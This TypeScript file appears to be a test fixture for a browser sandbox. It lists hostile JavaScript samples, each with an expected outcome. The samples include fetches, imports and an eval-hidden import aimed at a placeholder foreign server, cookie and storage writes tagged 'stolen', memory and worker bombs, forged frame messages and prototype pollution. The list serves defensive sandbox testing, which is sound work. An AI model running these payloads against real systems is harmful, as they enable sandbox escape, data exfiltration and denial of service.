import type { HostileProgram } from './hostile.ts';

/** `API` and `FOREIGN` stand for the addresses of the product and of another person's server. */

const endless = { timeout: 400, ends: ['timed-out'] } as const;

const attempt = (code: string) => `try { ${code} } catch (error) { console.log(String(error)) }`;

export const hostileJavaScript: HostileProgram[] = [
  {
    name: 'fetch of the API and of a foreign server',
    code: `for (const address of ['API', 'FOREIGN']) {
      ${attempt("await fetch(address, { mode: 'no-cors', credentials: 'include' })")}
    }`,
  },
  {
    name: 'XMLHttpRequest',
    code: attempt("const x = new XMLHttpRequest(); x.open('GET', 'API', false); x.send()"),
  },
  { name: 'WebSocket', code: attempt("new WebSocket('API'.replace('http', 'ws'))") },
  { name: 'EventSource', code: attempt("new EventSource('API')") },
  { name: 'sendBeacon', code: attempt("navigator.sendBeacon('API', 'x')") },
  { name: 'WebTransport', code: attempt("await new WebTransport('FOREIGN').ready") },
  { name: 'importScripts', code: attempt("importScripts('FOREIGN')") },
  {
    name: 'import() of a foreign address',
    code: `${attempt("await import('FOREIGN')")} ${attempt("await import('API')")}`,
  },
  { name: 'an import of a foreign address', code: "import 'FOREIGN';" },
  {
    name: 'import() that eval hides',
    code: attempt('await (0, eval)(\'import("FOREIGN")\')'),
  },
  {
    name: 'cookies and cookieStore',
    code: `${attempt("document.cookie = 'stolen=1'")} ${attempt("await cookieStore.set('stolen', '1')")}`,
  },
  {
    name: 'localStorage and sessionStorage',
    code: `${attempt("localStorage.setItem('stolen', '1')")} ${attempt("sessionStorage.stolen = '1'")}`,
  },
  { name: 'IndexedDB', code: attempt("indexedDB.open('stolen')") },
  { name: 'Cache Storage', code: attempt("await caches.open('stolen')") },
  {
    name: 'the browser’s private files',
    code: attempt(
      "const root = await navigator.storage.getDirectory(); await root.getFileHandle('stolen', { create: true })",
    ),
  },
  { name: 'an endless loop', code: 'while (true) {}', ...endless },
  {
    name: 'endless microtasks',
    code: '(function again() { Promise.resolve().then(again) })()',
    ...endless,
  },
  { name: 'endless timers', code: 'setInterval(() => undefined, 0)', ...endless },
  {
    name: 'a loop that catches what would end it',
    code: 'for (;;) { try { for (;;) {} } finally { continue } }',
    ...endless,
  },
  {
    name: 'memory in arrays',
    code: 'const kept = []; for (;;) kept.push(new Array(10_000).fill(kept.length))',
    timeout: 700,
    ends: ['timed-out', 'failed'],
  },
  {
    name: 'memory in buffers',
    code: 'const kept = []; for (;;) kept.push(new Uint8Array(64 * 1024 * 1024).fill(1))',
    ends: ['failed', 'timed-out'],
  },
  {
    name: 'memory in buffers by their constructors',
    code: 'const kept = []; const Made = new ArrayBuffer(1).constructor; for (;;) kept.push(new Made(64 * 1024 * 1024))',
    ends: ['failed'],
  },
  {
    name: 'memory of WebAssembly',
    code: `const kept = []; for (;;) { const memory = new WebAssembly.Memory({ initial: 1 }); memory.grow(60_000); kept.push(memory) }`,
    ends: ['failed'],
  },
  {
    name: 'workers without end',
    code: `const address = URL.createObjectURL(new Blob(['for (;;) {}']));
      ${attempt('for (let i = 0; i < 10_000; i += 1) new Worker(address)')}`,
  },
  {
    name: 'a worker in the worker that calls the API',
    code: attempt(`new Worker(URL.createObjectURL(new Blob(["fetch('API')"])))`),
  },
  {
    name: 'messages forged to the frame',
    code: `${attempt("postMessage({ type: 'end', error: null, fromTest: false })")}
      ${attempt("self.postMessage({ type: 'ready' }, '*')")}
      ${attempt("dispatchEvent(new MessageEvent('message', { data: { type: 'run' } }))")}
      throw new Error('the real end')`,
    ends: ['failed'],
  },
  {
    name: 'a port caught by replaced methods',
    code: `const caught = [];
      for (const name of ['postMessage', 'start', 'close']) {
        const real = MessagePort.prototype[name];
        MessagePort.prototype[name] = function (...values) { caught.push(this); return real.apply(this, values) };
      }
      console.log('x'); await new Promise((done) => setTimeout(done, 20));
      for (const port of caught) port.postMessage({ type: 'end', error: null, fromTest: false });
      throw new Error('the real end')`,
    ends: ['failed'],
  },
  {
    name: 'a flood of messages',
    code: attempt("for (;;) postMessage('x'.repeat(1000))"),
    timeout: 500,
  },
  {
    name: 'a flood of messages to other tabs',
    code: attempt(
      "const channel = new BroadcastChannel('nibras'); for (;;) channel.postMessage('x')",
    ),
    timeout: 500,
  },
  {
    name: 'prototypes of our own code polluted',
    code: `Object.prototype.type = 'end'; Object.prototype.error = null;
      Array.prototype.map = () => { throw 1 }; Array.prototype.filter = () => []; Array.prototype.push = () => 0;
      String.prototype.slice = () => ''; String.prototype.replace = () => ''; RegExp.prototype.exec = () => null;
      Promise.prototype.then = () => undefined; JSON.stringify = () => 'x'; Function.prototype.call = () => 1;
      Map.prototype.get = () => 1; Set.prototype.add = () => 1; Date.now = () => 0;
      throw new Error('the end')`,
    timeout: 500,
    ends: ['failed', 'timed-out'],
  },
  {
    name: 'output without end',
    code: "for (;;) console.log('a line of some length')",
    ends: ['too-much-output'],
  },
  {
    name: 'one output of 100 million characters',
    code: "console.log('x'.repeat(100_000_000))",
    ends: ['too-much-output', 'failed', 'timed-out'],
  },
  {
    name: 'a table without end',
    code: 'for (;;) console.table([{ a: 1, b: 2 }])',
    ends: ['too-much-output'],
  },
  { name: 'recursion without end', code: 'function f() { f() }\nf()', ends: ['failed'] },
  {
    name: 'an error whose text never ends',
    code: "throw Object.assign(new Error('x'.repeat(10_000_000)), { name: 'y'.repeat(1_000_000) })",
    ends: ['failed'],
  },
  {
    name: 'an error that throws when it is read',
    code: "throw new Proxy(new Error('x'), { get() { throw new Error('again') } })",
    timeout: 500,
    ends: ['failed', 'timed-out'],
  },
  {
    name: 'navigation of the worker',
    code: attempt("location.href = 'API'; location = 'FOREIGN'"),
  },
  {
    name: 'permissions, place and clipboard',
    code: `${attempt("await navigator.permissions.query({ name: 'geolocation' })")}
      ${attempt('await navigator.clipboard.readText()')}
      ${attempt('await Notification.requestPermission()')}`,
  },
  { name: 'closing the worker', code: attempt('close()') },
];
